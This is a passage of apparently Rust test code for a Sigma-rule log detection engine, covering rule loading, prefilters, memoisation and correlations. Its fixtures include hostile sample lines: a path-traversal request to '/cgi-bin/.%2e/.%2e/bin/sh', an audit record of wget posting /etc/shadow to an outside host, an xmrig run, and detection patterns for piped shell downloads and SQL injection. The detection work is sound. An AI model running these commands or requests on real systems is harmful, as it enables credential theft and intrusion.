        let Some(family) = Family::of(ev) else {
            return;
        };
        let Some((_, fs)) = self.families.iter_mut().find(|(f, _)| *f == family) else {
            return;
        };
        for part in fs.iter_mut() {
            part.evaluate(ev, hits);
            for &p in hits.iter() {
                let (gate, dets) = &part.feeds[p as usize];
                if gate.admits(ev) {
                    out.extend_from_slice(dets);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{Engine, EngineConfig};
    use crate::finding::Status;
    use crate::parse::{Format, SourceState, parse_line};

    const RULES: &str = r#"
title: Apache path traversal CVE
id: 11111111-0000-4000-8000-000000000001
status: test
author: Example Author
logsource:
    category: webserver
detection:
    selection:
        cs-method: GET
        cs-uri-query|contains: '/cgi-bin/.%2e/'
    filter:
        sc-status: 404
    condition: selection and not filter
level: high
tags:
    - attack.initial-access
    - attack.t1190
---
title: Scanner user agent
id: 11111111-0000-4000-8000-000000000002
logsource:
    category: webserver
detection:
    ua:
        cs-user-agent|startswith:
            - 'sqlmap/'
            - 'Nikto'
    condition: 1 of ua*
level: medium
---
title: Crawler in proxy logs only
id: 11111111-0000-4000-8000-000000000003
logsource:
    category: proxy
detection:
    selection:
        c-useragent|contains: 'Googlebot'
    condition: selection
level: low
---
title: Suspicious sshd messages
id: 11111111-0000-4000-8000-000000000004
logsource:
    product: linux
    service: sshd
detection:
    keywords:
        - 'Bad protocol version identification'
        - 'error in libcrypto'
    condition: keywords
level: medium
---
title: Windows process
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\cmd.exe'
    condition: selection
---
title: Cookie rule
logsource:
    category: webserver
detection:
    selection:
        cs-cookie|contains: 'x'
    condition: selection
---
title: Many scanner requests
id: 11111111-0000-4000-8000-000000000005
correlation:
    type: event_count
    rules:
        - 11111111-0000-4000-8000-000000000002
    group-by:
        - c-ip
    timespan: 5m
    condition:
        gte: 3
    generate: true
level: high
---
title: Distinct users
correlation:
    type: temporal
    rules:
        - 11111111-0000-4000-8000-000000000002
        - 11111111-0000-4000-8000-000000000001
    timespan: 5m
level: high
"#;

    fn run(lines: &[&str], load: SigmaLoad) -> Vec<crate::finding::Finding> {
        let mut engine = Engine::new(load.detectors, EngineConfig::default());
        let mut st = SourceState::new(Format::Auto, 1_780_000_000_000);
        let mut out = Vec::new();
        for l in lines {
            let ev = parse_line(l, &mut st, 0);
            engine.process(&ev, &mut out);
        }
        engine.flush(&mut out);
        out
    }

    #[test]
    fn rules_load_and_the_unusable_are_refused_with_a_reason() {
        let load = load_str(RULES, "r.yml");
        assert_eq!(load.loaded, 5, "{:?}", load.refused);
        let why: Vec<(&str, &str)> = load
            .refused
            .iter()
            .map(|r| (r.title.as_str(), r.reason.as_str()))
            .collect();
        assert_eq!(why.len(), 3, "{why:?}");
        assert!(why[0].0 == "Windows process" && why[0].1.contains("log source"));
        assert!(why[1].0 == "Cookie rule" && why[1].1.contains("`cs-cookie`"));
        assert!(why[2].0 == "Distinct users" && why[2].1.contains("temporal"));
    }

    #[test]
    fn a_web_rule_fires_on_the_first_request_with_its_metadata() {
        let hit = r#"203.0.113.5 - - [03/Mar/2026:10:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 400 0 "-" "curl/8""#;
        let miss = r#"203.0.113.6 - - [03/Mar/2026:10:00:01 +0000] "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 404 0 "-" "curl/8""#;
        let out = run(&[hit, miss], load_str(RULES, "r.yml"));
        let opened: Vec<_> = out.iter().filter(|f| f.status == Status::Open).collect();
        assert_eq!(opened.len(), 1, "{opened:#?}");
        let f = opened[0];
        assert_eq!(f.offender.value, "203.0.113.5");
        assert_eq!(f.title, "Apache path traversal CVE");
        assert_eq!(f.severity, Severity::High);
        assert_eq!(f.attack, vec!["T1190".to_owned()]);
        assert_eq!(
            f.context.get("sigma.id").map(String::as_str),
            Some("11111111-0000-4000-8000-000000000001")
        );
        assert_eq!(
            f.context.get("sigma.level").map(String::as_str),
            Some("high")
        );
        assert_eq!(
            f.context.get("sigma.author").map(String::as_str),
            Some("Example Author")
        );
        assert_eq!(f.metrics.event_count, 1);
    }

    #[test]
    fn proxy_rules_stay_off_access_logs_and_keywords_read_the_line() {
        let crawler = r#"66.249.66.1 - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 10 "-" "Mozilla/5.0 (compatible; Googlebot/2.1)""#;
        let ssh = "Mar  3 10:00:02 web1 sshd[7]: Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.4 port 5000";
        let out = run(&[crawler, ssh], load_str(RULES, "r.yml"));
        let titles: Vec<&str> = out
            .iter()
            .filter(|f| f.status == Status::Open)
            .map(|f| f.title.as_str())
            .collect();
        assert_eq!(titles, vec!["Suspicious sshd messages"]);
        let f = out.iter().find(|f| f.status == Status::Open).unwrap();
        assert_eq!(f.offender.value, "web1");
        assert_eq!(f.domain, Domain::Identity);
    }

    /// SigmaHQ's `lnx_auditd_data_exfil_wget`, `lnx_auditd_coinminer` and
    /// `lnx_auditd_ld_so_preload_mod` (their detections), on audit records.
    const AUDIT_RULES: &str = r#"
title: Data Exfiltration with Wget
id: cb39d16b-b3b6-4a7a-8222-1cf24b686ffc
logsource:
    product: linux
    service: auditd
detection:
    selection:
        type: EXECVE
        a0: wget
        a1|startswith: '--post-file='
    condition: selection
level: medium
---
title: Possible Coin Miner CPU Priority Param
id: 071d5e5a-9cef-47ec-bc4e-a42e34d8d0ed
logsource:
    product: linux
    service: auditd
detection:
    cmd1:
        a1|startswith: '--cpu-priority'
    cmd2:
        a2|startswith: '--cpu-priority'
    condition: 1 of cmd*
level: critical
---
title: Modification of ld.so.preload
id: 4b3cb710-5e83-4715-8c45-8b2b5b3e5751
logsource:
    product: linux
    service: auditd
detection:
    selection:
        type: 'PATH'
        name: '/etc/ld.so.preload'
    condition: selection
level: high
"#;

    #[test]
    fn auditd_rules_read_the_audit_keys_of_audit_records_only() {
        let load = load_str(AUDIT_RULES, "a.yml");
        assert_eq!(load.loaded, 3, "{:?}", load.refused);
        let exfil = "node=db-1 type=EXECVE msg=audit(1772366400.000:10): argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2=\"http://198.51.100.7/\"";
        // hex, as audit writes an argument with a space
        let miner = "node=db-2 type=EXECVE msg=audit(1772366401.000:11): argc=3 a0=\"./xmrig\" a1=2D2D6370752D7072696F72697479203520 a2=\"-o\"";
        // the same words in a syslog line are not an audit record
        let syslog = "Mar  1 12:00:02 db-3 cron[7]: wget --post-file=/etc/shadow --cpu-priority 5";
        let download = "node=db-4 type=EXECVE msg=audit(1772366402.000:12): argc=2 a0=\"wget\" a1=\"http://deb.debian.org/x\"";
        let preload = "node=db-5 type=PATH msg=audit(1772366403.000:13): item=0 name=\"/etc/ld.so.preload\" inode=1234 nametype=CREATE";
        let other_path = "node=db-6 type=PATH msg=audit(1772366404.000:14): item=0 name=\"/etc/hosts\" inode=99 nametype=NORMAL";
        let out = run(&[exfil, miner, syslog, download, preload, other_path], load);
        let mut opened: Vec<(&str, &str, Domain)> = out
            .iter()
            .filter(|f| f.status == Status::Open)
            .map(|f| (f.title.as_str(), f.offender.value.as_str(), f.domain))
            .collect();
        opened.sort();
        assert_eq!(
            opened,
            vec![
                (
                    "Data Exfiltration with Wget",
                    "db-1",
                    Domain::Infrastructure
                ),
                (
                    "Modification of ld.so.preload",
                    "db-5",
                    Domain::Infrastructure
                ),
                (
                    "Possible Coin Miner CPU Priority Param",
                    "db-2",
                    Domain::Infrastructure
                ),
            ]
        );
    }

    #[test]
    fn an_event_count_correlation_is_a_window_over_its_rule() {
        let line = |i: u32, ua: &str| {
            format!(
                r#"192.0.2.9 - - [03/Mar/2026:10:00:0{i} +0000] "GET /p{i} HTTP/1.1" 200 1 "-" "{ua}""#
            )
        };
        let lines: Vec<String> = (0..4).map(|i| line(i, "sqlmap/1.7")).collect();
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let out = run(&refs, load_str(RULES, "r.yml"));
        let opened = |t: &str| {
            out.iter()
                .filter(|f| f.status == Status::Open && f.title == t)
                .count()
        };
        assert_eq!(opened("Scanner user agent"), 1);
        assert_eq!(opened("Many scanner requests"), 1);
        let corr = out
            .iter()
            .find(|f| f.title == "Many scanner requests" && f.status == Status::Open)
            .unwrap();
        assert_eq!(corr.metrics.value, 3.0);
        assert_eq!(corr.offender.value, "192.0.2.9");
    }

    #[test]
    fn a_rule_only_a_correlation_names_does_not_fire_alone() {
        let rules = RULES.replace("generate: true", "generate: false");
        let line =
            r#"192.0.2.9 - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "Nikto/2.5""#;
        let out = run(&[line], load_str(&rules, "r.yml"));
        assert!(out.is_empty(), "{out:#?}");
    }

    #[test]
    fn memoised_verdicts_equal_fresh_ones() {
        let a = r#"203.0.113.5 - - [03/Mar/2026:10:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 400 0 "-" "curl/8""#;
        let b = r#"203.0.113.7 - - [03/Mar/2026:10:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 404 0 "-" "curl/8""#;
        let load = load_str(RULES, "r.yml");
        let mut set = SigmaSet::build(&load.detectors);
        let mut st = SourceState::new(Format::Auto, 1_780_000_000_000);
        let (ea, eb) = (parse_line(a, &mut st, 0), parse_line(b, &mut st, 0));
        let (mut hits, mut out) = (Vec::new(), Vec::new());
        for (ev, want) in [(&ea, 1), (&eb, 0), (&ea, 1), (&eb, 0)] {
            set.matches(ev, &mut hits, &mut out);
            assert_eq!(out.len(), want);
        }
    }

    /// Rules that read the line, each needing a literal there: keywords,
    /// wildcards, a regex, `and not`, `all of`, `contains|all`.
    const LINE_RULES: &str = r#"
title: Shell download or malware found
id: 22222222-0000-4000-8000-000000000001
logsource:
    product: linux
detection:
    keywords:
        - 'wget * - http* | sh'
        - 'Trojan*FOUND'
        - 'cmd.exe'
    condition: keywords
level: high
---
title: Whoami unless benign
id: 22222222-0000-4000-8000-000000000002
logsource:
    product: linux
detection:
    kw:
        - 'whoami'
    filter:
        - 'benign'
    condition: kw and not filter
level: high
---
title: Union select on the line
id: 22222222-0000-4000-8000-000000000003
logsource:
    product: linux
detection:
    sel:
        event.original|re: '(?i)union\s+all\s+select'
    condition: sel
level: high
---
title: Passwd under etc
id: 22222222-0000-4000-8000-000000000004
logsource:
    product: linux
detection:
    sel:
        event.original|contains|all:
            - 'passwd'
            - '/etc/'
    condition: sel
level: high
---
title: Sudo to root
id: 22222222-0000-4000-8000-000000000005
logsource:
    product: linux
detection:
    kw_a:
        - 'sudo'
    kw_b:
        - 'root'
    condition: all of kw_*
level: high
"#;

    /// How a part's rules are kept from running on every event.
    #[derive(Clone, Copy, Debug, PartialEq, Eq)]
    struct Shortcut {
        /// The rules read only fields: verdicts are memoised by their values.
        memo: bool,
        /// Each rule needs a literal somewhere ([`prefilter`]): an event
        /// holding none is not evaluated (for a memoised part, on a miss).
        prefilter: bool,
    }

    /// How `rule` is spared: memoised when it reads only fields, prefiltered
    /// when it needs a literal somewhere.
    fn shortcut((rule, compiled): Loaded) -> Shortcut {
        Shortcut {
            memo: !reads_raw(rule),
            prefilter: prefilter::needles(compiled, &is_raw_field).is_some(),
        }
    }

    fn line_rules() -> SigmaLoad {
        load_str(LINE_RULES, "line.yml")
    }

    /// Every rule `load` holds, ungated, feeding nothing.
    fn rules_of(load: &SigmaLoad) -> Vec<(Loaded<'_>, Gate, Vec<u32>)> {
        load.detectors
            .iter()
            .filter_map(|d| match &d.sigma.as_ref()?.kind {
                SigmaKind::Rule { rule, compiled, .. } => {
                    Some(((&**rule, &**compiled), Gate::Any, Vec::new()))
                }
                SigmaKind::Correlation { .. } => None,
            })
            .collect()
    }

    fn parts_of(load: &SigmaLoad) -> (Part, Part) {
        let rules = rules_of(load);
        let line = Shortcut {
            memo: false,
            prefilter: true,
        };
        assert!(rules.iter().all(|r| shortcut(r.0) == line));
        assert_eq!(rules.len(), 5);
        (
            Part::new(&rules, false, true),
            Part::new(&rules, false, false),
        )
    }

    #[test]
    fn the_prefilter_skips_lines_without_a_needle_and_keeps_the_rest() {
        let load = line_rules();
        let (mut filtered, _) = parts_of(&load);
        assert!(filtered.gated.is_some() && filtered.always.is_none());
        let mut st = SourceState::new(Format::Auto, 1_780_000_000_000);
        let mut hits = Vec::new();
        for (line, want) in [
            ("sshd[1]: Accepted publickey for alice", 0),
            ("bash: WGET x - https://e.test/a | SH", 1),
            ("bash: whoami", 1),
            ("bash: whoami benign", 0),
            ("clamd: /tmp/x: Trojan.Agent FOUND", 1),
            ("sudo: alice : USER=root ; COMMAND=/bin/id", 1),
            ("app: q=1 UNION  ALL\tSELECT 2", 1),
            // a regex folds case by Unicode rules: `ſ` is an `s`
            ("app: q=1 union all \u{17F}elect 2", 1),
        ] {
            let ev = parse_line(&format!("Mar  3 10:00:00 h {line}"), &mut st, 0);
            filtered.evaluate(&ev, &mut hits);
            assert_eq!(hits.len(), want, "{line}");
        }
    }

    /// Rules on parsed fields, each needing a literal in one: a memoised
    /// part checks them on a miss, comparing whole values where the rule
    /// does (`c-useragent: 'x'` is not every agent holding an `x`).
    const FIELD_RULES: &str = r#"
title: Traversal
id: 33333333-0000-4000-8000-000000000001
logsource:
    category: webserver
detection:
    selection:
        cs-method: GET
        cs-uri-query|contains: '/cgi-bin/.%2e/'
    condition: selection
level: high
---
title: Odd agent
id: 33333333-0000-4000-8000-000000000002
logsource:
    category: webserver
detection:
    selection:
        c-useragent:
            - 'x'
            - 'Nikto*'
            - 'python-requests/2.31'
    condition: selection
level: high
"#;

    #[test]
    fn field_needles_skip_a_missed_memo_only_where_nothing_can_match() {
        let load = load_str(FIELD_RULES, "fields.yml");
        let rules = rules_of(&load);
        let both = Shortcut {
            memo: true,
            prefilter: true,
        };
        assert_eq!(rules.len(), 2);
        assert!(rules.iter().all(|r| shortcut(r.0) == both));
        // the prefilter alone, and the rules memoised but unfiltered
        let mut pf = Part::new(&rules, true, true)
            .gated
            .expect("a prefilter")
            .prefilter;
        let mut part = Part::new(&rules, true, false);
        assert!(part.gated.is_none());
        let mut st = SourceState::new(Format::Auto, 1_780_000_000_000);
        let mut hits = Vec::new();
        for (target, agent, admitted, matched) in [
            ("/index.html", "Mozilla/5.0 (X11; Linux x86_64)", false, 0),
            ("/index.html", "X", true, 1),
            ("/cgi-bin/.%2E/.%2e/bin/sh", "curl/8", true, 1),
            ("/index.html", "nikto/2.5", true, 1),
            // whole values match whatever the case; a value of no listed
            // length is passed over
            ("/index.html", "Python-Requests/2.31", true, 1),
            ("/index.html", "python-requests/2.3", false, 0),
        ] {
            let line = format!(
                r#"203.0.113.5 - - [03/Mar/2026:10:00:00 +0000] "GET {target} HTTP/1.1" 404 0 "-" "{agent}""#
            );
            let ev = parse_line(&line, &mut st, 0);
            assert_eq!(pf.scan(&ev), admitted, "{line}");
            part.evaluate(&ev, &mut hits);
            assert_eq!(hits.len(), matched, "{line}");
        }
    }

    /// Rules of one memo, some behind the prefilter and one no literal
    /// gates (a status), keyed once by the fields they read: the stem is
    /// cut from the URL already in the key, so it is not read again.
    #[test]
    fn one_memo_serves_gated_and_ungated_rules() {
        let rules = format!(
            "{FIELD_RULES}---\n{}",
            r#"
title: Server error on a stem
id: 33333333-0000-4000-8000-000000000003
logsource:
    category: webserver
detection:
    selection:
        sc-status: 500
    stem:
        cs-uri-stem|endswith: '.php'
    condition: selection or stem
level: low
"#
        );
        let load = load_str(&rules, "fields.yml");
        let rules = rules_of(&load);
        assert_eq!(rules.len(), 3);
        assert!(rules.iter().all(|r| shortcut(r.0).memo));
        let mut part = Part::new(&rules, true, true);
        assert!(part.gated.is_some() && part.always.is_some());
        assert!(part.reads.contains(&Field::UrlOriginal) && !part.reads.contains(&Field::UrlPath));
        let mut st = SourceState::new(Format::Auto, 1_780_000_000_000);
        let mut hits = Vec::new();
        for _ in 0..2 {
            for (target, status, agent, want) in [
                ("/index.html", 200, "Mozilla/5.0", vec![]),
                ("/index.html", 500, "Mozilla/5.0", vec![2]),
                ("/a.php?x=1", 200, "Mozilla/5.0", vec![2]),
                ("/cgi-bin/.%2e/.%2e/bin/sh", 500, "nikto/2.5", vec![0, 1, 2]),
            ] {
                let line = format!(
                    r#"203.0.113.5 - - [03/Mar/2026:10:00:00 +0000] "GET {target} HTTP/1.1" {status} 0 "-" "{agent}""#
                );
                part.evaluate(&parse_line(&line, &mut st, 0), &mut hits);
                hits.sort_unstable();
                assert_eq!(hits, want, "{line}");
            }
        }
    }

    proptest::proptest! {
        /// The prefilter only skips what could not match: with it and
        /// without, the same rules match, whatever the case, order and
        /// non-ASCII look-alikes (`K` Kelvin, `ſ` long s) in the line.
        #[test]
        fn prefiltered_rules_match_as_unfiltered_ones(
            line in "(wget|WgEt| - |https?://|\\| ?sh|trojan|FOUND|cmd\\.exe|whoami|benign|union|select|all|union all [s\u{17F}S]elect|\\s|passwd|/etc/|sudo|root|\u{212A}|\u{17F}|é|[a-z0-9])*",
        ) {
            let load = line_rules();
            let (mut filtered, mut unfiltered) = parts_of(&load);
            let mut st = SourceState::new(Format::Auto, 1_780_000_000_000);
            let ev = parse_line(&format!("Mar  3 10:00:00 h app: {line}"), &mut st, 0);
            let (mut a, mut b) = (Vec::new(), Vec::new());
            filtered.evaluate(&ev, &mut a);
            unfiltered.evaluate(&ev, &mut b);
            a.sort_unstable();
            b.sort_unstable();
            proptest::prop_assert_eq!(a, b, "{}", line);
        }
    }
}
